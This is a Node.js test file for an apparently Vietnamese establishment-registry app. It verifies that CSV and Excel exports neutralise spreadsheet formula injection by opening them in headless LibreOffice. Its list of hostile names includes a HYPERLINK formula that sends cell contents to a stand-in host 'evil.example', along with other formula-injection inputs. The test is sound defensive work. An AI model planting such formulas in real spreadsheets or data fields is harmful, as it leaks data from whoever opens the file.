// formula.test.mjs - no exported spreadsheet runs a formula someone typed as
// a name (CSV/XLSX formula injection, OWASP). Every text export - the list's
// CSV and Excel, `export --kind`, `export --all` - is opened with LibreOffice
// headless, as an office worker would open it, and the cell must still hold
// the literal text; numbers stay numbers; a re-import gives the name back
// exactly.
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { mkdir, readFile, readdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { promisify } from 'node:util';

import { login, run, setup } from './lib.mjs';

const exec = promisify(execFile);
const env = await setup(after, { prefix: 'formula' });

const EVIL = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  "'=1+1",
];
let admin;
before(async () => {
  admin = await login(env.base, 'admin', env.adminPassword, 'bearer');
  const commune = (await admin.get('/api/v1/units?level=commune&era=new&per_page=1')).body.items[0];
  for (const name of EVIL) {
    const r = await admin.post('/api/v1/establishments', {
      json: { name, kind: 'household', commune_id: commune.id, workers: 7 },
    });
    assert.equal(r.status, 201, r.text);
  }
});

/* LibreOffice's own copy of a spreadsheet as CSV (UTF-8): what its cells
 * hold after it opened the file with its defaults (formulas evaluated). */
async function libreCsv(file) {
  const dir = path.join(env.dir, `lo-${path.basename(file)}`);
  await mkdir(dir, { recursive: true });
  await exec('soffice', [
    `-env:UserInstallation=file://${env.dir}/lo-profile`, '--headless',
    '--infilter=CSV:44,34,76', '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76',
    '--outdir', dir, file,
  ], { timeout: 120000 });
  const out = (await readdir(dir)).find((f) => f.endsWith('.csv'));
  assert.ok(out, `LibreOffice converted ${file}`);
  return parseCsv((await readFile(path.join(dir, out), 'utf8')).replace(/^\uFEFF/, ''));
}

/* RFC 4180 rows of text. */
function parseCsv(text) {
  const rows = [[]];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') cell += text[i++];
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') rows.at(-1).push(cell), (cell = '');
    else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') i++;
      rows.at(-1).push(cell);
      cell = '';
      rows.push([]);
    } else cell += c;
  }
  if (cell || rows.at(-1).length) rows.at(-1).push(cell);
  else rows.pop();
  return rows;
}

/* Every hostile name is in column nameCol as its literal text after the
 * neutralising "'", never the result of a formula; workers stay 7. */
function assertLiteral(rows, nameCol, workersCol, where) {
  for (const name of EVIL) {
    const row = rows.find((r) => r[nameCol] === `'${name}`);
    assert.ok(row, `${where}: ${JSON.stringify(name)} kept as text; column: ${
      JSON.stringify(rows.map((r) => r[nameCol]))}`);
    assert.equal(row[workersCol], '7', `${where}: workers stay a number`);
  }
}

async function download(url, file) {
  const res = await fetch(env.base + url, { headers: { Authorization: `Bearer ${admin.bearer}` } });
  assert.equal(res.status, 200, url);
  await writeFile(file, Buffer.from(await res.arrayBuffer()));
  return file;
}

test('the list as CSV: each hostile name has the quote in front, the number none', async () => {
  const file = await download('/establishments?format=csv', path.join(env.dir, 'list.csv'));
  const raw = parseCsv((await readFile(file, 'utf8')).replace(/^\uFEFF/, ''));
  const head = raw[0];
  const nameCol = head.indexOf('Tên cơ sở');
  for (const name of EVIL)
    assert.ok(raw.some((r) => r[nameCol] === `'${name}`), `'${name} in the list CSV`);
  assertLiteral(await libreCsv(file), nameCol, head.indexOf('Số lao động'), 'list CSV');
});

test('the list as Excel, opened in LibreOffice: no formula ran', async () => {
  const file = await download('/establishments?format=xlsx', path.join(env.dir, 'list.xlsx'));
  const rows = await libreCsv(file);
  assertLiteral(rows, rows[0].indexOf('Tên cơ sở'), rows[0].indexOf('Số lao động'), 'list XLSX');
});

test('export --kind (CSV and XLSX) and export --all, opened in LibreOffice: no formula ran', async () => {
  const csv = path.join(env.dir, 'export.csv');
  const xlsx = path.join(env.dir, 'export.xlsx');
  const all = path.join(env.dir, 'all');
  for (const args of [['--kind', 'establishments', '--out', csv],
    ['--kind', 'establishments', '--out', xlsx], ['--all', '--out', all]]) {
    const r = await run(['export', '--db', env.db, ...args], { timeout: 120000 });
    assert.equal(r.code, 0, r.stderr);
  }
  for (const file of [csv, xlsx, path.join(all, 'establishments.csv')]) {
    const rows = await libreCsv(file);
    assertLiteral(rows, rows[0].indexOf('name'), rows[0].indexOf('workers'), file);
  }
});

test('importing an export reads each name back exactly, without the quote', async () => {
  const file = path.join(env.dir, 'export.csv');
  const r = await run(['import', '--db', env.db, '--kind', 'establishments', file]);
  assert.equal(r.code, 0, r.stdout + r.stderr);
  assert.match(r.stdout, /created 0, updated 0, unchanged \d+, with problems 0/);
  const names = (await admin.get('/api/v1/establishments?per_page=100')).body.items.map((e) => e.name);
  for (const name of EVIL) assert.ok(names.includes(name), JSON.stringify(name));
});
